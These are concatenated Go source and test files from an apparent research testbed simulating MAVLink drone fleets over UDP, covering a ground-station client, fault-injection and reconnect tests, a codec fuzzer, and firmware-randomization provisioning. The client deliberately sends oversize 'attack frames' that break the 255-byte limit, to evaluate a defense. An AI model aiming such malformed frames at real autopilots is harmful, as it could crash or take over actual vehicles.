	// Strict disables the monitor's link-loss tolerance (not useful on
	// UDP; exists for experiments contrasting the serial-link rule).
	Strict bool
}

// Client is one ground station's view of one vehicle over UDP: it
// maintains the session (re-helloing with a fresh epoch after link
// outages), feeds received telemetry records to a gcs.Monitor (in
// link-loss-tolerant mode) and transmits uplink frames through a
// bounded retry queue, including the paper's oversize attack frames.
type Client struct {
	cfg   ClientConfig
	conn  *net.UDPConn
	stats LinkStats

	mu          sync.Mutex
	mon         gcs.Monitor
	txSeq       uint32
	frameSeq    byte
	epoch       uint32
	outage      bool
	rxInit      bool
	rxNext      uint32
	lastSim     time.Duration
	lastArrival time.Time

	up        chan []byte
	stop      chan struct{}
	closeOnce sync.Once
	wg        sync.WaitGroup
}

// DialClient connects to a fleet server and starts the receive,
// keepalive and uplink loops. The session is established by the first
// hello; the server starts streaming that vehicle's telemetry on its
// next tick.
func DialClient(addr string, cfg ClientConfig) (*Client, error) {
	if cfg.SysID == 0 {
		cfg.SysID = 1
	}
	if cfg.Keepalive <= 0 {
		cfg.Keepalive = 500 * time.Millisecond
	}
	if cfg.LinkIdle == 0 {
		cfg.LinkIdle = 250 * time.Millisecond
	}
	raddr, err := net.ResolveUDPAddr("udp", addr)
	if err != nil {
		return nil, err
	}
	conn, err := net.DialUDP("udp", nil, raddr)
	if err != nil {
		return nil, err
	}
	_ = conn.SetReadBuffer(1 << 20)
	c := &Client{
		cfg:  cfg,
		conn: conn,
		up:   make(chan []byte, maxUplinkQueue),
		stop: make(chan struct{}),
	}
	c.mon.TolerateLinkLoss = !cfg.Strict
	c.sendDatagram(PacketHello, c.helloPayload())

	c.wg.Add(3)
	go c.recvLoop()
	go c.keepaliveLoop()
	go c.uplinkLoop()
	return c, nil
}

// helloPayload carries the session epoch (4 bytes big endian): the
// server resets its uplink tracking whenever the epoch changes.
func (c *Client) helloPayload() []byte {
	c.mu.Lock()
	e := c.epoch
	c.mu.Unlock()
	return []byte{byte(e >> 24), byte(e >> 16), byte(e >> 8), byte(e)}
}

// SendFrame assigns the session's MAVLink sequence number and
// transmits the frame on the uplink. Oversize payloads are permitted —
// a malicious station does not respect the 255-byte limit (the frame
// is marshaled with MarshalOversize, exactly like the in-process
// gcs.GroundStation.SendFrame path).
func (c *Client) SendFrame(f *mavlink.Frame) {
	c.mu.Lock()
	f.Seq = c.frameSeq
	c.frameSeq++
	c.mu.Unlock()
	c.sendDatagram(PacketData, f.MarshalOversize())
}

// SendRaw transmits arbitrary uplink bytes (fuzzing, malformed
// traffic).
func (c *Client) SendRaw(payload []byte) {
	c.sendDatagram(PacketData, payload)
}

// sendDatagram numbers and encodes a datagram. Control datagrams
// (hello/bye) are written straight to the socket; data datagrams go
// through the bounded uplink queue, which drops the oldest entry under
// backpressure and retries transient write failures with backoff.
func (c *Client) sendDatagram(t PacketType, payload []byte) {
	c.mu.Lock()
	seq := c.txSeq
	c.txSeq++
	c.mu.Unlock()
	pkt := Encode(Header{Type: t, SysID: c.cfg.SysID, Seq: seq}, payload)
	if t != PacketData {
		c.write(pkt)
		return
	}
	for {
		select {
		case c.up <- pkt:
			return
		default:
		}
		select {
		case <-c.up:
			c.stats.QueueDropped.Add(1)
		default:
		}
	}
}

// write transmits one datagram, reporting success.
func (c *Client) write(pkt []byte) bool {
	if _, err := c.conn.Write(pkt); err != nil {
		return false
	}
	c.stats.DatagramsOut.Add(1)
	c.stats.BytesOut.Add(uint64(len(pkt)))
	return true
}

// uplinkLoop drains the data queue. A failed write retries a few times
// with doubling backoff (transient socket pressure), then the datagram
// is shed — UDP semantics, but without silently wedging the caller.
func (c *Client) uplinkLoop() {
	defer c.wg.Done()
	for {
		select {
		case <-c.stop:
			return
		case pkt := <-c.up:
			backoff := 5 * time.Millisecond
			for attempt := 0; !c.write(pkt); attempt++ {
				if attempt >= 3 {
					c.stats.QueueDropped.Add(1)
					break
				}
				select {
				case <-c.stop:
					return
				case <-time.After(backoff):
				}
				backoff *= 2
			}
		}
	}
}

// Monitor returns a copy of the ground-station monitor state.
func (c *Client) Monitor() gcs.Monitor {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.mon
}

// Health grades the link/vehicle state from the monitor's history.
func (c *Client) Health(silenceThreshold time.Duration) gcs.Health {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.mon.Classify(silenceThreshold)
}

// Epoch returns the current session epoch (bumped per detected link
// outage).
func (c *Client) Epoch() uint32 {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.epoch
}

// Stats returns the client-side link counters.
func (c *Client) Stats() LinkStatsSnapshot { return c.stats.Snapshot() }

// SimTime returns the vehicle sim clock carried by the latest
// datagram.
func (c *Client) SimTime() time.Duration {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.lastSim
}

// Close sends a graceful bye and stops the loops.
func (c *Client) Close() error {
	c.closeOnce.Do(func() {
		c.sendDatagram(PacketBye, nil)
		close(c.stop)
		_ = c.conn.Close()
		c.wg.Wait()
	})
	return nil
}

func (c *Client) recvLoop() {
	defer c.wg.Done()
	buf := make([]byte, 1<<16)
	for {
		select {
		case <-c.stop:
			return
		default:
		}
		_ = c.conn.SetReadDeadline(time.Now().Add(50 * time.Millisecond))
		n, err := c.conn.Read(buf)
		if err != nil {
			if ne, ok := err.(net.Error); ok && ne.Timeout() {
				c.checkLinkIdle()
				c.feedSilence()
				continue
			}
			select {
			case <-c.stop:
				return
			default:
				continue
			}
		}
		h, payload, err := Decode(buf[:n])
		if err != nil {
			if errors.Is(err, ErrChecksum) {
				// Wire damage caught by the transport: the datagram is
				// lost whole, booked as degradation, and the stream stays
				// clean — no garbage ever reaches the monitor.
				c.stats.CorruptDatagrams.Add(1)
				c.mu.Lock()
				c.mon.NoteCorrupt()
				c.mu.Unlock()
			}
			continue
		}
		if h.SysID != c.cfg.SysID {
			continue
		}
		c.stats.DatagramsIn.Add(1)
		c.stats.BytesIn.Add(uint64(n))
		c.trackRx(h.Seq)

		c.mu.Lock()
		if h.SimTime > c.lastSim {
			c.lastSim = h.SimTime
		}
		c.lastArrival = time.Now()
		if c.outage {
			// Traffic resumed after a declared outage: charge the whole
			// span to the link and re-baseline vehicle silence before
			// feeding, so a healed partition never reads as a silent
			// vehicle.
			c.outage = false
			c.mon.NoteLinkOutage(c.lastSim)
		}
		// Feed at the datagram's own sim timestamp: gaps between
		// received sim clocks measure vehicle silence in simulated
		// time, immune to host scheduling.
		c.mon.Feed(payload, c.lastSim)
		c.mu.Unlock()
	}
}

// checkLinkIdle runs on receive timeouts: once the wall-clock arrival
// gap exceeds LinkIdle the link is declared dead — MaxLinkSilence
// tracks the (estimated) outage live, the epoch is bumped and a
// re-hello goes out so the server rebuilds the session when the link
// heals.
func (c *Client) checkLinkIdle() {
	if c.cfg.LinkIdle <= 0 {
		return
	}
	c.mu.Lock()
	if c.lastArrival.IsZero() {
		c.mu.Unlock()
		return
	}
	gap := time.Since(c.lastArrival)
	if gap <= c.cfg.LinkIdle {
		c.mu.Unlock()
		return
	}
	rate := c.cfg.Rate
	if rate <= 0 {
		rate = 1
	}
	c.mon.FeedLinkIdle(c.lastSim + time.Duration(float64(gap)*rate))
	rehello := !c.outage
	if rehello {
		c.outage = true
		c.epoch++
		c.stats.Rehellos.Add(1)
	}
	c.mu.Unlock()
	if rehello {
		c.sendDatagram(PacketHello, c.helloPayload())
	}
}

// feedSilence advances the monitor's notion of time while nothing is
// arriving, so total downlink loss (dead fleet) still registers as
// silence when a Rate estimate is configured. Once an outage has been
// declared (LinkIdle crossed) the span is the link's, not the
// vehicle's, and estimation stops — otherwise a partition would
// masquerade as a silent vehicle.
func (c *Client) feedSilence() {
	if c.cfg.Rate <= 0 {
		return
	}
	c.mu.Lock()
	if !c.lastArrival.IsZero() && !c.outage {
		est := c.lastSim + time.Duration(float64(time.Since(c.lastArrival))*c.cfg.Rate)
		c.mon.Feed(nil, est)
	}
	c.mu.Unlock()
}

func (c *Client) trackRx(seq uint32) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if !c.rxInit {
		c.rxInit = true
		c.rxNext = seq + 1
		return
	}
	switch {
	case seq == c.rxNext:
		c.rxNext++
	case seq > c.rxNext:
		c.stats.SeqGaps.Add(uint64(seq - c.rxNext))
		c.rxNext = seq + 1
	default:
		c.stats.Reordered.Add(1)
	}
}

func (c *Client) keepaliveLoop() {
	defer c.wg.Done()
	ticker := time.NewTicker(c.cfg.Keepalive)
	defer ticker.Stop()
	for {
		select {
		case <-c.stop:
			return
		case <-ticker.C:
			c.sendDatagram(PacketHello, c.helloPayload())
		}
	}
}
