// Client-side read deadlines and arrival-rate estimation are
// wall-clock operations against a real UDP socket.
//mavr:wallclock

package netlink

import (
	"net"
	"sync"
	"time"

	"mavr/internal/gcs"
	"mavr/internal/mavlink"
)

// ClientConfig tunes a ground-station client.
type ClientConfig struct {
	// SysID is the vehicle to watch (1-based fleet system id).
	SysID byte
	// Keepalive is the hello interval maintaining the session (wall
	// clock; default 500ms).
	Keepalive time.Duration
	// Rate estimates vehicle sim time during total downlink loss, in
	// simulated seconds per wall second. 0 (the default) disables the
	// estimate: silence is then measured purely from the sim clocks
	// carried by received datagrams (time beacons keep arriving from a
	// live fleet even when a vehicle's application has crashed).
	Rate float64
	// Strict disables the monitor's link-loss tolerance (not useful on
	// UDP; exists for experiments contrasting the serial-link rule).
	Strict bool
}

// Client is one ground station's view of one vehicle over UDP: it
// maintains the session, feeds received telemetry records to a
// gcs.Monitor (in link-loss-tolerant mode) and transmits uplink
// frames, including the paper's oversize attack frames.
type Client struct {
	cfg   ClientConfig
	conn  *net.UDPConn
	stats LinkStats

	mu          sync.Mutex
	mon         gcs.Monitor
	txSeq       uint32
	frameSeq    byte
	rxInit      bool
	rxNext      uint32
	lastSim     time.Duration
	lastArrival time.Time

	stop      chan struct{}
	closeOnce sync.Once
	wg        sync.WaitGroup
}

// DialClient connects to a fleet server and starts the receive and
// keepalive loops. The session is established by the first hello; the
// server starts streaming that vehicle's telemetry on its next tick.
func DialClient(addr string, cfg ClientConfig) (*Client, error) {
	if cfg.SysID == 0 {
		cfg.SysID = 1
	}
	if cfg.Keepalive <= 0 {
		cfg.Keepalive = 500 * time.Millisecond
	}
	raddr, err := net.ResolveUDPAddr("udp", addr)
	if err != nil {
		return nil, err
	}
	conn, err := net.DialUDP("udp", nil, raddr)
	if err != nil {
		return nil, err
	}
	_ = conn.SetReadBuffer(1 << 20)
	c := &Client{cfg: cfg, conn: conn, stop: make(chan struct{})}
	c.mon.TolerateLinkLoss = !cfg.Strict
	c.sendDatagram(PacketHello, nil)

	c.wg.Add(2)
	go c.recvLoop()
	go c.keepaliveLoop()
	return c, nil
}

// SendFrame assigns the session's MAVLink sequence number and
// transmits the frame on the uplink. Oversize payloads are permitted —
// a malicious station does not respect the 255-byte limit (the frame
// is marshaled with MarshalOversize, exactly like the in-process
// gcs.GroundStation.SendFrame path).
func (c *Client) SendFrame(f *mavlink.Frame) {
	c.mu.Lock()
	f.Seq = c.frameSeq
	c.frameSeq++
	c.mu.Unlock()
	c.sendDatagram(PacketData, f.MarshalOversize())
}

// SendRaw transmits arbitrary uplink bytes (fuzzing, malformed
// traffic).
func (c *Client) SendRaw(payload []byte) {
	c.sendDatagram(PacketData, payload)
}

func (c *Client) sendDatagram(t PacketType, payload []byte) {
	c.mu.Lock()
	seq := c.txSeq
	c.txSeq++
	c.mu.Unlock()
	pkt := Encode(Header{Type: t, SysID: c.cfg.SysID, Seq: seq}, payload)
	if _, err := c.conn.Write(pkt); err == nil {
		c.stats.DatagramsOut.Add(1)
		c.stats.BytesOut.Add(uint64(len(pkt)))
	}
}

// Monitor returns a copy of the ground-station monitor state.
func (c *Client) Monitor() gcs.Monitor {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.mon
}

// Stats returns the client-side link counters.
func (c *Client) Stats() LinkStatsSnapshot { return c.stats.Snapshot() }

// SimTime returns the vehicle sim clock carried by the latest
// datagram.
func (c *Client) SimTime() time.Duration {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.lastSim
}

// Close sends a graceful bye and stops the loops.
func (c *Client) Close() error {
	c.closeOnce.Do(func() {
		c.sendDatagram(PacketBye, nil)
		close(c.stop)
		_ = c.conn.Close()
		c.wg.Wait()
	})
	return nil
}

func (c *Client) recvLoop() {
	defer c.wg.Done()
	buf := make([]byte, 1<<16)
	for {
		select {
		case <-c.stop:
			return
		default:
		}
		_ = c.conn.SetReadDeadline(time.Now().Add(50 * time.Millisecond))
		n, err := c.conn.Read(buf)
		if err != nil {
			if ne, ok := err.(net.Error); ok && ne.Timeout() {
				c.feedSilence()
				continue
			}
			select {
			case <-c.stop:
				return
			default:
				continue
			}
		}
		h, payload, err := Decode(buf[:n])
		if err != nil || h.SysID != c.cfg.SysID {
			continue
		}
		c.stats.DatagramsIn.Add(1)
		c.stats.BytesIn.Add(uint64(n))
		c.trackRx(h.Seq)

		c.mu.Lock()
		if h.SimTime > c.lastSim {
			c.lastSim = h.SimTime
		}
		c.lastArrival = time.Now()
		// Feed at the datagram's own sim timestamp: gaps between
		// received sim clocks measure vehicle silence in simulated
		// time, immune to host scheduling.
		c.mon.Feed(payload, c.lastSim)
		c.mu.Unlock()
	}
}

// feedSilence advances the monitor's notion of time while nothing is
// arriving, so total downlink loss (dead fleet) still registers as
// silence when a Rate estimate is configured.
func (c *Client) feedSilence() {
	if c.cfg.Rate <= 0 {
		return
	}
	c.mu.Lock()
	if !c.lastArrival.IsZero() {
		est := c.lastSim + time.Duration(float64(time.Since(c.lastArrival))*c.cfg.Rate)
		c.mon.Feed(nil, est)
	}
	c.mu.Unlock()
}

func (c *Client) trackRx(seq uint32) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if !c.rxInit {
		c.rxInit = true
		c.rxNext = seq + 1
		return
	}
	switch {
	case seq == c.rxNext:
		c.rxNext++
	case seq > c.rxNext:
		c.stats.SeqGaps.Add(uint64(seq - c.rxNext))
		c.rxNext = seq + 1
	default:
		c.stats.Reordered.Add(1)
	}
}

func (c *Client) keepaliveLoop() {
	defer c.wg.Done()
	ticker := time.NewTicker(c.cfg.Keepalive)
	defer ticker.Stop()
	for {
		select {
		case <-c.stop:
			return
		case <-ticker.C:
			c.sendDatagram(PacketHello, nil)
		}
	}
}
