//mavr:wallclock — real-UDP integration tests for the supervised fleet:
// deadlines, goroutine accounting and outage timing are wall-clock.

package netlink

import (
	"runtime"
	"strings"
	"testing"
	"time"

	"mavr/internal/chaos"
	"mavr/internal/gcs"
)

// Scheduled chaos panics crash driver goroutines; the supervisor
// rebuilds the boards with the sim clock intact and the fleet flies
// on. The client watching through it all must never conclude the
// vehicle was compromised.
func TestFleetSupervisionRecoversPanics(t *testing.T) {
	ch := chaos.Config{Seed: 21, PanicRate: 0.02}
	// The schedule is pure: count the panics the driver will draw over
	// the flight so the test knows crashes really are on the menu.
	scheduled := 0
	for tick := uint64(0); tick < 100; tick++ {
		if ch.BoardFate(1, tick).Kind == chaos.FaultPanic {
			scheduled++
		}
	}
	if scheduled == 0 {
		t.Fatal("seed 21 schedules no panics in the first 100 ticks; pick another seed")
	}

	f, err := NewFleet(FleetConfig{
		Vehicles:      1,
		Firmware:      testFirmware(t),
		Chaos:         ch,
		RestartBudget: 1000,
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Start(); err != nil {
		t.Fatal(err)
	}
	defer f.Close()

	c, err := DialClient(f.Addr().String(), ClientConfig{SysID: 1})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()

	waitSim(t, f, 1100*time.Millisecond, 2*time.Minute)
	time.Sleep(100 * time.Millisecond)

	v := f.Vehicle(1)
	if got := v.Restarts(); got < scheduled {
		t.Errorf("restarts = %d, want at least the %d scheduled panics", got, scheduled)
	}
	if v.Degraded() {
		t.Fatalf("vehicle degraded despite ample budget: %v", v.Err())
	}
	if v.Err() == nil || !strings.Contains(v.Err().Error(), "chaos") {
		t.Errorf("last crash cause not recorded: %v", v.Err())
	}
	// Sim time survived every restart monotonically and kept advancing.
	if got := v.Snapshot().SimTime; got < 1100*time.Millisecond {
		t.Errorf("sim time %v did not survive restarts", got)
	}
	mon := c.Monitor()
	if mon.Pulses == 0 {
		t.Fatal("no telemetry through the crash/restart cycles")
	}
	if mon.Garbage != 0 || mon.HeartbeatErrors != 0 {
		t.Errorf("restarts leaked garbage=%d hbErr=%d to the monitor", mon.Garbage, mon.HeartbeatErrors)
	}
	if h := c.Health(2 * time.Second); h == gcs.HealthCompromised {
		t.Errorf("supervised restarts misread as compromise (silence=%v)", mon.MaxSilence)
	}
	if !strings.Contains(f.MetricsText(), "fleet.restarts") {
		t.Error("metrics missing restart counter")
	}
}

// A board that crashes on every tick exhausts its restart budget and
// is parked as degraded — visible in metrics — instead of restarting
// forever.
func TestFleetRestartBudgetDegrades(t *testing.T) {
	f, err := NewFleet(FleetConfig{
		Vehicles:      1,
		Firmware:      testFirmware(t),
		Chaos:         chaos.Config{Seed: 5, PanicRate: 1},
		RestartBudget: 2,
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Start(); err != nil {
		t.Fatal(err)
	}
	defer f.Close()

	v := f.Vehicle(1)
	end := time.Now().Add(30 * time.Second)
	for !v.Degraded() {
		if time.Now().After(end) {
			t.Fatalf("vehicle never degraded (restarts=%d)", v.Restarts())
		}
		time.Sleep(10 * time.Millisecond)
	}
	if got := v.Restarts(); got != 2 {
		t.Errorf("restarts = %d, want the budget of 2", got)
	}
	if v.Err() == nil {
		t.Error("degraded vehicle has no recorded cause")
	}
	if f.DegradedVehicles() != 1 {
		t.Errorf("DegradedVehicles = %d", f.DegradedVehicles())
	}
	metrics := f.MetricsText()
	for _, want := range []string{"fleet.degraded 1", "vehicle.1.degraded 1", "vehicle.1.restarts 2"} {
		if !strings.Contains(metrics, want) {
			t.Errorf("metrics missing %q", want)
		}
	}
}

// Shutdown drain: Close must reap every fleet and client goroutine and
// session within its deadline — chaos soaks assert zero leaks across
// hundreds of cycles, so even one stuck goroutine is a failure.
func TestFleetCloseLeaksNothing(t *testing.T) {
	baseline := runtime.NumGoroutine()

	f, err := NewFleet(FleetConfig{
		Vehicles: 4,
		Firmware: testFirmware(t),
		Chaos:    chaos.Config{Seed: 9, PanicRate: 0.01, CorruptRate: 0.05},
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Start(); err != nil {
		t.Fatal(err)
	}
	var clients []*Client
	for i := 0; i < 4; i++ {
		c, err := DialClient(f.Addr().String(), ClientConfig{SysID: byte(i + 1)})
		if err != nil {
			t.Fatal(err)
		}
		clients = append(clients, c)
	}
	waitSim(t, f, 200*time.Millisecond, time.Minute)

	for _, c := range clients {
		if err := c.Close(); err != nil {
			t.Fatal(err)
		}
	}
	if err := f.Close(); err != nil {
		t.Fatalf("drain failed: %v", err)
	}
	if got := f.Sessions(); got != 0 {
		t.Errorf("%d sessions survived Close", got)
	}

	// Goroutines unwind asynchronously after Close returns; poll with a
	// deadline rather than asserting instantaneously.
	end := time.Now().Add(5 * time.Second)
	for {
		if n := runtime.NumGoroutine(); n <= baseline {
			break
		}
		if time.Now().After(end) {
			buf := make([]byte, 1<<16)
			t.Fatalf("goroutines leaked: %d > baseline %d\n%s",
				runtime.NumGoroutine(), baseline, buf[:runtime.Stack(buf, true)])
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// Reconnect: when the downlink dies (here: the session expires under a
// silent keepalive), the client declares a link outage, re-hellos with
// a fresh epoch, and the healed span is charged to the link — never to
// the vehicle, and never as a compromise.
func TestClientReconnectWithEpoch(t *testing.T) {
	f, err := NewFleet(FleetConfig{
		Vehicles:       1,
		Firmware:       testFirmware(t),
		SessionTimeout: 150 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Start(); err != nil {
		t.Fatal(err)
	}
	defer f.Close()

	// Keepalives off: the session will expire, killing the downlink
	// until the client's outage detector re-hellos.
	c, err := DialClient(f.Addr().String(), ClientConfig{
		SysID:     1,
		Keepalive: time.Hour,
		LinkIdle:  200 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()

	end := time.Now().Add(30 * time.Second)
	for c.Epoch() == 0 || c.Monitor().LinkOutages == 0 {
		if time.Now().After(end) {
			t.Fatalf("no reconnect: epoch=%d outages=%d", c.Epoch(), c.Monitor().LinkOutages)
		}
		time.Sleep(10 * time.Millisecond)
	}
	if got := c.Stats().Rehellos; got == 0 {
		t.Error("re-hello not counted")
	}
	mon := c.Monitor()
	if !mon.LinkSilent(100 * time.Millisecond) {
		t.Errorf("outage not booked as link silence (maxLink=%v)", mon.MaxLinkSilence)
	}
	if mon.CompromiseDetected(30 * time.Second) {
		t.Error("link outage produced positive compromise evidence")
	}
	if h := c.Health(30 * time.Second); h == gcs.HealthCompromised || h == gcs.HealthVehicleDead {
		t.Errorf("pure link outage classified %v", h)
	}
	// The server adopted the bumped epoch on the rebuilt session.
	deadline := time.Now().Add(5 * time.Second)
	for {
		sess := f.sessions.all()
		if len(sess) == 1 && sess[0].epochSet.Load() && sess[0].epoch.Load() == c.Epoch() {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("server epoch never caught up (client epoch %d)", c.Epoch())
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// Mid-stream corruption: with the chaos schedule flipping bytes in
// flight, the transport checksum turns every hit into whole-datagram
// loss. The monitor sees gaps and corruption drops — degradation — but
// zero garbage, and the verdict stays clear of compromise.
func TestChaosCorruptionDegradesToLoss(t *testing.T) {
	f, err := NewFleet(FleetConfig{
		Vehicles: 1,
		Firmware: testFirmware(t),
		Chaos:    chaos.Config{Seed: 11, CorruptRate: 0.25},
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Start(); err != nil {
		t.Fatal(err)
	}
	defer f.Close()

	c, err := DialClient(f.Addr().String(), ClientConfig{SysID: 1})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()

	waitSim(t, f, 1100*time.Millisecond, 2*time.Minute)
	time.Sleep(100 * time.Millisecond)

	st := c.Stats()
	if st.CorruptDatagrams == 0 {
		t.Fatalf("25%% corruption corrupted nothing over %d datagrams", st.DatagramsIn)
	}
	mon := c.Monitor()
	if mon.CorruptDrops == 0 {
		t.Error("corruption drops not booked in the monitor")
	}
	if mon.Garbage != 0 || mon.HeartbeatErrors != 0 {
		t.Errorf("corruption leaked through the checksum: garbage=%d hbErr=%d",
			mon.Garbage, mon.HeartbeatErrors)
	}
	if mon.Pulses == 0 || mon.Heartbeats == 0 {
		t.Fatalf("no telemetry through the corrupting link: pulses=%d hb=%d", mon.Pulses, mon.Heartbeats)
	}
	if mon.CompromiseDetected(500 * time.Millisecond) {
		t.Error("wire corruption misread as compromise")
	}
	// Host scheduling stalls can stretch a wall arrival gap past the
	// outage threshold, escalating degraded to link-dead; both verdicts
	// keep the link's problems off the vehicle.
	if h := c.Health(500 * time.Millisecond); h != gcs.HealthDegraded && h != gcs.HealthLinkDead {
		t.Errorf("corrupting link classified %v, want degraded or link-dead", h)
	}
}
