package netlink

import (
	"bytes"
	"encoding/binary"
	"errors"
	"testing"
	"time"
)

// FuzzDatagram holds the wire protocol to two invariants on arbitrary
// input: Decode never panics, and both directions of the codec agree —
// a datagram that decodes re-encodes byte-identically, and a datagram
// built by Encode decodes back to exactly what went in.
func FuzzDatagram(f *testing.F) {
	f.Add(Encode(Header{Type: PacketHello, SysID: 1, Seq: 1}, nil))
	f.Add(Encode(Header{Type: PacketData, SysID: 7, Seq: 42, SimTime: 1500 * time.Millisecond},
		[]byte{0xA5, 0x01, 0x10, 0x00}))
	f.Add(Encode(Header{Type: PacketBye, SysID: 255, Seq: ^uint32(0), SimTime: -1}, []byte("tail")))
	f.Add([]byte{})                        // short
	f.Add([]byte{'M', 'V'})                // short, magic only
	f.Add([]byte("MV\x09noise padding..")) // bad version
	f.Add([]byte("XYconservative length padding to header size"))

	f.Fuzz(func(t *testing.T, pkt []byte) {
		h, payload, err := Decode(pkt)
		if err != nil {
			if len(pkt) >= HeaderSize && pkt[0] == magic0 && pkt[1] == magic1 && pkt[2] == Version {
				// A full-header datagram with our magic and version may
				// only be rejected by the integrity check, and only when
				// the checksum genuinely mismatches.
				if !errors.Is(err, ErrChecksum) {
					t.Fatalf("well-formed datagram rejected: %v", err)
				}
				if binary.BigEndian.Uint32(pkt[checkOffset:HeaderSize]) == checksum(pkt, pkt[HeaderSize:]) {
					t.Fatalf("matching checksum rejected: %v", err)
				}
			}
			return
		}
		// Decode accepts only full headers with our magic and version.
		if len(pkt) < HeaderSize {
			t.Fatalf("decoded a %d-byte datagram below HeaderSize", len(pkt))
		}
		if len(payload) != len(pkt)-HeaderSize {
			t.Fatalf("payload length %d, want %d", len(payload), len(pkt)-HeaderSize)
		}

		// Re-encoding the decoded parts must reproduce the input exactly:
		// the header has no hidden or lossy fields.
		if re := Encode(h, payload); !bytes.Equal(re, pkt) {
			t.Fatalf("re-encode mismatch:\n in  %x\n out %x", pkt, re)
		}

		// And the other direction: a fresh Encode of the same logical
		// datagram decodes to identical parts.
		h2, p2, err := Decode(Encode(h, payload))
		if err != nil {
			t.Fatalf("round-trip decode failed: %v", err)
		}
		if h2 != h || !bytes.Equal(p2, payload) {
			t.Fatalf("round-trip disagreement: %+v/%x vs %+v/%x", h, payload, h2, p2)
		}
	})
}
