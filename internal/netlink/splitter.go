package netlink

import (
	"mavr/internal/firmware"
	"mavr/internal/mavlink"
)

// StreamSplitter segments the vehicle's downlink byte stream into
// self-contained records: telemetry pulses ([firmware.PulseMagic, seq,
// gyro, heading]) and complete MAVLink frames. Packing datagrams on
// record boundaries is what makes UDP loss benign — a dropped datagram
// removes whole records, never a record prefix, so the ground
// station's stream parser cannot desynchronize and loss manifests as
// pulse sequence gaps instead of garbage.
//
// Bytes that start neither a pulse nor a frame become single-byte
// records: a compromised vehicle spraying garbage still reaches the
// monitor (and trips its garbage counter) rather than being laundered
// by the transport.
type StreamSplitter struct {
	buf []byte
}

// Feed appends data to the pending stream and returns all complete
// records. A trailing partial record is held until the next Feed. The
// returned slices are copies and remain valid after subsequent calls.
func (s *StreamSplitter) Feed(data []byte) [][]byte {
	s.buf = append(s.buf, data...)
	var records [][]byte
	off := 0
	for off < len(s.buf) {
		n := recordLen(s.buf[off:])
		if n == 0 {
			break // incomplete record, wait for more bytes
		}
		records = append(records, append([]byte(nil), s.buf[off:off+n]...))
		off += n
	}
	s.buf = append(s.buf[:0], s.buf[off:]...)
	return records
}

// Pending returns the number of buffered bytes of an incomplete
// trailing record.
func (s *StreamSplitter) Pending() int { return len(s.buf) }

// recordLen returns the length of the record starting at b[0], or 0 if
// b holds only an incomplete prefix.
func recordLen(b []byte) int {
	switch b[0] {
	case firmware.PulseMagic:
		if len(b) < firmware.PulseSize {
			return 0
		}
		return firmware.PulseSize
	case mavlink.Magic:
		if len(b) < 2 {
			return 0
		}
		total := 6 + int(b[1]) + 2
		if len(b) < total {
			return 0
		}
		return total
	default:
		return 1
	}
}

// packRecords greedily packs records into payloads no larger than
// limit. A single record larger than limit gets a payload of its own
// (UDP carries it; it just exceeds the preferred size).
func packRecords(records [][]byte, limit int) [][]byte {
	var payloads [][]byte
	var cur []byte
	for _, r := range records {
		if len(cur) > 0 && len(cur)+len(r) > limit {
			payloads = append(payloads, cur)
			cur = nil
		}
		cur = append(cur, r...)
	}
	if len(cur) > 0 {
		payloads = append(payloads, cur)
	}
	return payloads
}
