package netlink

import (
	"errors"
	"math/rand"
	"strings"
	"testing"

	"mavr/internal/board"
	"mavr/internal/core"
	"mavr/internal/firmware"
)

// TestFleetProvisionHook boots a protected fleet whose masters
// provision images through a stub armory: every vehicle's first
// randomization must go through the hook with its own (sysID, epoch)
// identity, and the counters must land in the metrics text.
func TestFleetProvisionHook(t *testing.T) {
	img, err := firmware.Generate(firmware.TestApp(), firmware.ModeMAVR)
	if err != nil {
		t.Fatal(err)
	}
	pre, err := core.Preprocess(img.ELF)
	if err != nil {
		t.Fatal(err)
	}
	var calls []byte
	f, err := NewFleet(FleetConfig{
		Vehicles:  2,
		Firmware:  img,
		Protected: true,
		Provision: func(sysID byte, epoch int) (*board.Provisioned, error) {
			calls = append(calls, sysID)
			seed := int64(sysID)*1000 + int64(epoch)
			perm := core.Permutation(rand.New(rand.NewSource(seed)), len(pre.Blocks))
			r, err := core.Randomize(pre, perm)
			if err != nil {
				return nil, err
			}
			return &board.Provisioned{Image: r.Image, Perm: perm}, nil
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()

	if len(calls) != 2 || calls[0] != 1 || calls[1] != 2 {
		t.Fatalf("provision calls = %v, want [1 2]", calls)
	}
	for _, v := range f.Vehicles() {
		st := v.Sys().Master.Stats()
		if st.ArmoryProvisioned != 1 || st.ArmoryFallbacks != 0 {
			t.Fatalf("vehicle %d: provisioned=%d fallbacks=%d, want 1 and 0",
				v.SysID, st.ArmoryProvisioned, st.ArmoryFallbacks)
		}
	}
	metrics := f.MetricsText()
	if !strings.Contains(metrics, "fleet.armory_provisioned 2\n") {
		t.Fatalf("metrics missing armory_provisioned:\n%s", metrics)
	}
	if !strings.Contains(metrics, "fleet.armory_fallbacks 0\n") {
		t.Fatalf("metrics missing armory_fallbacks:\n%s", metrics)
	}
}

// TestFleetProvisionFallback proves a dead armory does not ground the
// fleet: the masters randomize on-board and the fallbacks are counted.
func TestFleetProvisionFallback(t *testing.T) {
	f, err := NewFleet(FleetConfig{
		Vehicles:  2,
		Protected: true,
		Provision: func(sysID byte, epoch int) (*board.Provisioned, error) {
			return nil, errors.New("armory unreachable")
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()

	for _, v := range f.Vehicles() {
